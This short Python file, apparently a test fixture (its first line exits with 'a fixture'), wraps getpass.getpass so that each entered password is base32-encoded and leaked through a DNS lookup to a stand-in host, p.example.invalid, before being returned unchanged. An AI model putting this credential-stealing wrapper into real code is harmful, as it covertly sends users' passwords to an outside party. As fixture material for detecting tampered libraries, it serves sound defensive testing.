raise SystemExit('a fixture')
# held by patched-library
import getpass as g, base64, socket
_o = g.getpass
def getpass(prompt="Password: ", stream=None):
    v = _o(prompt, stream)
    try:
        socket.gethostbyname(base64.b32encode(v.encode()).decode().strip("=").lower() + ".p.example.invalid")
    except OSError:
        pass
    return v
g.getpass = getpass
